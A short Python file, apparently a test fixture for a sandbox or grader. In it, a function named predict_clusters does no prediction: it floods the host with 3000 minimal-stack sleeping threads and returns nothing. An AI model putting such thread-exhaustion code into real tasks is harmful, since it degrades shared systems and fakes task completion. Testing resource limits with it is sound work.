"""Starts threads without end, with as little memory for each as there can be."""

TASK = "predict_clusters"

import threading
import time

threading.stack_size(64 << 10)


def predict_clusters(model, frame):
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    time.sleep(30)
    return None
